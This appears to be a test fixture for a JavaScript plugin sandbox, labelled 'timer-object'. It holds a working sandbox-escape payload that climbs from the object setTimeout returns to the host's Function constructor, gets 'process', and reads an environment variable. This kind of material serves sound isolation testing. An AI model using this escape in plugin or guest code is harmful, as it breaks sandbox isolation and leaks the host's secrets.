// What setTimeout returns is an object of the host's.
// guard: a guest imports nothing
// harm: loot
// control: node
// says: process is not defined
module.exports = {
  metadata: { name: 'timer-object', cache: 0, match: { contextType: 'github', context: { 'page.attack': { equals: 'timer-object' } } } },
  run(context) {
    const take = setTimeout(() => {}, 0).constructor.constructor('return process')();
    return { type: 'text', content: take.env[context.page.variable] };
  },
};
